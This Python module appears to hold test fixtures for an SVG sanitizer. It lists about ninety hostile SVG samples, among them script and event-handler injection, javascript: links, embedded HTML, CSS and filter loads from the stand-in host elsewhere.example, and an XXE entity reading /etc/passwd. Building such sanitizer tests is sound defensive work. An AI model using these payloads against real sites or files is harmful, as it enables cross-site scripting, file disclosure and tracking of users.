"""SVG files that are to run, to ask or to exhaust, each with what may not be left of it.

`RUN` sets a global where it is run, and `OUT` is an address elsewhere. Those of which `harms` is
true do harm in Chromium when they are opened as they are, which a test sees for itself.
"""

import base64
from typing import NamedTuple

from tests.markup.pictures.samples import TELLTALE, exif, quarters, saved

RUN = "window.ran=1"
OUT = "http://elsewhere.example/"
NAMES = (
    'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 40 30"'
)
PNG = base64.b64encode(saved(quarters((8, 6)), "PNG")).decode()
PLACED = base64.b64encode(saved(quarters((8, 6)), "JPEG", exif=exif())).decode()
INNER = base64.b64encode(f"<svg {NAMES}><script>{RUN}</script></svg>".encode()).decode()
PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()


class Attack(NamedTuple):
    """A file, and texts of which none may be in what is published of it, in any case."""

    content: bytes
    forbidden: tuple[str, ...]
    harms: bool = False


def svg(inner: str, attributes: str = "", *, before: str = "") -> bytes:
    """Return a drawing's file with something in it."""
    return f'{before}<svg {NAMES} {attributes}>{inner}<rect width="9" height="9"/></svg>'.encode()


def attack(
    inner: str, *forbidden: str, attributes: str = "", before: str = "", harms: bool = False
):
    return Attack(svg(inner, attributes, before=before), (*forbidden, "window.ran"), harms)


def css(sheet: str, *forbidden: str, harms: bool = False) -> Attack:
    return attack(f"<style>{sheet}</style>", "elsewhere.example", *forbidden, harms=harms)


ATTACKS = {
    # Script
    "script": attack(f"<script>{RUN}</script>", "script", harms=True),
    "script as CDATA": attack(f"<script><![CDATA[{RUN}]]></script>", "script", harms=True),
    "script from elsewhere": attack(f'<script href="{OUT}a.js"/>', "script", OUT, harms=True),
    "script from elsewhere by xlink": attack(
        f'<script xlink:href="{OUT}a.js"/>', "script", OUT, harms=True
    ),
    "script with a prefix": Attack(
        f'<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>{RUN}</s:script>'
        "<s:g/></s:svg>".encode(),
        ("script", "window.ran"),
        harms=True,
    ),
    "script of HTML": attack(f"<h:script>{RUN}</h:script>", "script", harms=True),
    "script in defs": attack(f"<defs><script>{RUN}</script></defs>", "script", harms=True),
    "script in metadata": attack(
        f"<metadata><script>{RUN}</script></metadata>", "script", harms=True
    ),
    "script in a title": attack(f"<title><h:script>{RUN}</h:script></title>", "script", harms=True),
    "script in what is unknown": attack(
        f"<flow><script>{RUN}</script></flow>", "script", harms=True
    ),
    "script in UTF-16": Attack(
        svg(f"<script>{RUN}</script>").decode().encode("utf-16"),
        ("script", "window.ran"),
        harms=True,
    ),
    "script written with references": attack(
        f"<script>{''.join(f'&#{ord(sign)};' for sign in RUN)}</script>", "script", harms=True
    ),
    "a sheet that closes itself": attack(
        f"<style><![CDATA[a{{fill:red}}</style><script>{RUN}</script>]]></style>", "script", "<!"
    ),
    # Handlers
    "onload": attack("", "onload", attributes=f'onload="{RUN}"', harms=True),
    "onload in capitals": attack("", "onload", attributes=f'ONLOAD="{RUN}"'),
    "onerror": attack(
        f'<image href="data:image/png;base64,AAAA" onerror="{RUN}"/>', "onerror", harms=True
    ),
    "onbegin": attack(
        f'<rect><animate attributeName="x" dur="1s" onbegin="{RUN}"/></rect>',
        "onbegin",
        "animate",
        harms=True,
    ),
    "onfocus": attack(f'<rect tabindex="0" autofocus="" onfocus="{RUN}"/>', "onfocus", "tabindex"),
    "onload in an entity's default": attack(
        "", "onload", before=f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>', harms=True
    ),
    "onclick": attack(f'<g onclick="{RUN}"><path d="M0 0h9"/></g>', "onclick"),
    "handler": attack(
        f'<handler type="text/ecmascript" ev:event="load" xmlns:ev="e">{RUN}</handler>', "handler"
    ),
    # HTML
    "HTML": attack(
        f'<foreignObject width="9" height="9"><h:img src="x" onerror="{RUN}"/></foreignObject>',
        "foreign",
        "onerror",
        harms=True,
    ),
    "a frame": attack(
        f'<foreignObject width="9" height="9"><h:iframe src="{OUT}"/></foreignObject>',
        "iframe",
        OUT,
        harms=True,
    ),
    "HTML without a wrapper": attack(f'<h:iframe src="{OUT}"/>', "iframe", OUT, harms=True),
    "a form": attack(
        f'<foreignObject><h:form action="{OUT}"><h:input/></h:form></foreignObject>', "form", OUT
    ),
    "a base": attack(f'<h:base href="{OUT}"/><use href="#a"/>', "base", OUT),
    "an object": attack(f'<h:object data="{OUT}"/>', "object", OUT),
    "a page that is sent on": attack(
        f'<h:meta http-equiv="refresh" content="0;url={OUT}"/>', "meta", OUT, harms=True
    ),
    "a sheet that is linked": attack(
        f'<h:link rel="stylesheet" href="{OUT}a.css"/>', "link", OUT, harms=True
    ),
    "video": attack(
        f'<foreignObject><h:video src="{OUT}a.mp4"/></foreignObject>', "video", OUT, harms=True
    ),
    # Links and references
    "a link that runs": attack(
        f'<a href="javascript:{RUN}"><text y="9">a</text></a>', "javascript", "href"
    ),
    "a link that runs, hidden": attack(
        f'<a xlink:href="java&#10;script:{RUN}"><text y="9">a</text></a>', "script", "href"
    ),
    "a link to elsewhere": attack(
        f'<a href="{OUT}" target="_top"><text y="9">a</text></a>', OUT, "href"
    ),
    "a link that comes with an animation": attack(
        f'<a><animate attributeName="href" values="javascript:{RUN}"/><text y="9">a</text></a>',
        "animate",
        "javascript",
    ),
    "a link that is set": attack(
        f'<a id="a"><set attributeName="xlink:href" to="javascript:{RUN}"/></a>',
        "<set",
        "javascript",
    ),
    "what is animated from afar": attack(
        f'<image id="i" width="9" height="9"/>'
        f'<set href="#i" attributeName="href" to="{OUT}a.png" dur="9s"/>',
        "<set",
        OUT,
        harms=True,
    ),
    "a picture from elsewhere": attack(
        f'<image href="{OUT}a.png" width="9" height="9"/>', OUT, harms=True
    ),
    "a picture beside it": attack(
        '<image xlink:href="../secret.png" width="9" height="9"/>', "secret"
    ),
    "a picture without a scheme": attack(
        '<image href="//elsewhere.example/a.png" width="9" height="9"/>', "elsewhere", harms=True
    ),
    "a drawing in a drawing": attack(
        f'<image href="data:image/svg+xml;base64,{INNER}" width="9" height="9"/>', "svg+xml", INNER
    ),
    "a page as a picture": attack(
        f'<image href="data:text/html;base64,{PAGE}" width="9" height="9"/>', "text/html", PAGE
    ),
    "a page that calls itself PNG": attack(
        f'<image href="data:image/png;base64,{PAGE}" width="9" height="9"/>', PAGE
    ),
    "a picture that tells a place": attack(
        f'<image href="data:image/jpeg;base64,{PLACED}" width="9" height="9"/>',
        PLACED[:60],
        base64.b64encode(TELLTALE.encode()).decode()[4:12],
    ),
    "a part of another file": attack(f'<use href="{OUT}a.svg#b"/>', OUT, harms=True),
    "a part of a data address": attack(
        f'<use xlink:href="data:image/svg+xml;base64,{INNER}#a"/>', "data:", INNER
    ),
    "a filter's picture": attack(
        f'<filter id="f"><feImage href="{OUT}a.png"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/>',
        "feImage",
        OUT,
        harms=True,
    ),
    "a pattern from elsewhere": attack(f'<pattern id="p" href="{OUT}a.svg#p"/>', OUT),
    "a mask from elsewhere": attack(
        f'<rect width="9" height="9" mask="url({OUT}a.svg#m)"/>', OUT, harms=True
    ),
    "a filter from elsewhere": attack(
        f'<rect width="9" height="9" filter="url(\'{OUT}a.svg#f\')"/>', OUT, harms=True
    ),
    "a filter from elsewhere, escaped": attack(
        '<rect width="9" height="9" filter="u\\72l(http://elsewhere.example/a.svg#f)"/>',
        "elsewhere",
        harms=True,
    ),
    "an address with a base": attack(
        '<g xml:base="http://elsewhere.example/"><use href="#a"/></g>', "base", "elsewhere"
    ),
    "a font's glyphs": attack(
        f'<font><font-face><font-face-src><font-face-uri xlink:href="{OUT}"/></font-face-src>'
        "</font-face></font>",
        "font",
        OUT,
    ),
    "a pointer": attack(
        f'<rect width="9" height="9" cursor="url({OUT}a.cur), auto"/>', OUT, "cursor"
    ),
    "a colour profile": attack(
        f'<color-profile xlink:href="{OUT}a.icc" name="a"/>', OUT, "profile"
    ),
    # Styles
    "a sheet from elsewhere": css(f'@import "{OUT}a.css";', "@import", harms=True),
    "a sheet from elsewhere by url": css(f"@import url({OUT}a.css);", "@import", harms=True),
    "a sheet from elsewhere, escaped": css(f'@\\69mport "{OUT}a.css";', "mport", harms=True),
    "a sheet by an instruction": attack(
        "", "stylesheet", OUT, before=f'<?xml-stylesheet href="{OUT}a.css"?>', harms=True
    ),
    "a font from elsewhere": css(
        f"@font-face{{font-family:a;src:url({OUT}a.woff)}}*{{font-family:a}}", "font-face"
    ),
    "a font from elsewhere beside its own": css(
        f"@font-face{{font-family:a;src:url({OUT}a.woff),url(data:font/woff;base64,d09GRg==)}}"
        f"@font-face{{font-family:b;src:local(x)}}*{{font:9px a}}",
        "local",
    ),
    "a page that calls itself a font": css(
        f"@font-face{{font-family:a;src:url('data:font/woff2;base64,{PAGE}')}}*{{font:9px a}}",
        PAGE,
        "font-face",
    ),
    "a background": css(f"svg{{background:url({OUT}a.png)}}", "url", harms=True),
    "a background, escaped": css(
        "svg{background:u\\72l(http://elsewhere.example/a.png)}", harms=True
    ),
    "a background in a comment's shadow": css(f"svg{{background:/**/url(/**/{OUT}a.png)}}"),
    "itself as a background": css("svg{background:url(#a);--b:url(#a)}", "url"),
    "a set of pictures": css(f'svg{{background-image:image-set("{OUT}a.png" 1x)}}', "image-set"),
    "a background by a variable": css(
        f"svg{{--a:url({OUT}a.png);background:var(--a)}}", "url", harms=True
    ),
    "a filter in a sheet": css(f"rect{{filter:url({OUT}a.svg#f)}}", "url", harms=True),
    "a cursor in a sheet": css(f"rect{{cursor:url({OUT}a.cur),auto}}", "cursor"),
    "what follows a screen": css(
        f"@media screen{{svg{{background:url({OUT}a.png)}}}}", "url", harms=True
    ),
    "what asks what a browser can": css(
        f"@supports (fill:red){{svg{{background:url({OUT}a.png)}}}}", "supports", harms=True
    ),
    "a list's mark": css(
        f"svg{{display:list-item;list-style:url({OUT}a.png)}}", "list-style", harms=True
    ),
    "what stands before": css(f"svg::before{{content:url({OUT}a.png)}}", "content"),
    "an expression": css(
        "rect{width:expression(window.ran=1);behavior:url(#default#time2)}",
        "expression",
        "behavior",
    ),
    "a binding": css(f"rect{{-moz-binding:url({OUT}a.xml#b)}}", "binding"),
    "a rule in a rule": css(f"svg{{fill:red;& rect{{background:url({OUT}a.png)}}}}", "url"),
    "a namespace": css(f"@namespace url({OUT});", "namespace"),
    "a sheet of another kind": attack(
        f'<style type="text/xsl">@import "{OUT}";</style>', "import", OUT
    ),
    "a style that reaches out": attack(
        f'<rect style="fill:red;background:url({OUT}a.png)"/>', "url", OUT
    ),
    "a style that reaches out, of all": attack(
        "", OUT, attributes=f'style="background:url({OUT}a.png)"', harms=True
    ),
    "a style that moves": css(
        "rect{animation:a 1s infinite}@keyframes a{to{fill:red}}", "animation", "keyframes"
    ),
    # Declarations and entities
    "a file as an entity": attack(
        "<text>&a;</text>",
        "root:",
        before='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    ),
    "an entity from elsewhere": attack("", OUT, before=f'<!DOCTYPE svg SYSTEM "{OUT}a.dtd">'),
    "an entity for parameters": attack(
        "", OUT, before=f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{OUT}a.dtd"> %a;]>'
    ),
    "script in an entity": attack(
        "&a;", "script", before=f'<!DOCTYPE svg [<!ENTITY a "<script>{RUN}</script>">]>', harms=True
    ),
    "a comment that closes early": attack(
        f"<!-- --><script>{RUN}</script><!-- -->", "script", "<!--", harms=True
    ),
    "a page that shows a drawing": Attack(
        b"<html xmlns='http://www.w3.org/1999/xhtml'><script>window.ran=1</script><svg /></html>",
        ("html", "script"),
        harms=True,
    ),
    "transformed": attack(
        "",
        "stylesheet",
        OUT,
        before=f'<?xml-stylesheet type="text/xsl" href="{OUT}a.xsl"?>',
        harms=True,
    ),
}
